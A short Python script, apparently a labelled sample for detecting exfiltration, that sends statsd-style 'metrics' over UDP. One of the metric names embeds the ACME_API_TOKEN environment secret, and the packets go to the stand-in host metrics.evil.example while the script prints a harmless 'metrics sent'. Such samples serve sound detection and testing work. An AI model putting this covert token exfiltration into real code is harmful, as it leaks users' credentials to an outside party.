# SPDX-License-Identifier: GPL-2.0-only
"""py-exfil-udp: sends "metrics" in statsd format over UDP to an undeclared collector, and
one of the metric names carries the connector's token."""
import os
import socket

token = os.environ["ACME_API_TOKEN"]
addr = socket.getaddrinfo("metrics.evil.example", 8125, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"acme.jobs.done:1|c", addr)
    s.sendto(("acme.auth.%s:1|c" % token).encode(), addr)
print("metrics sent")
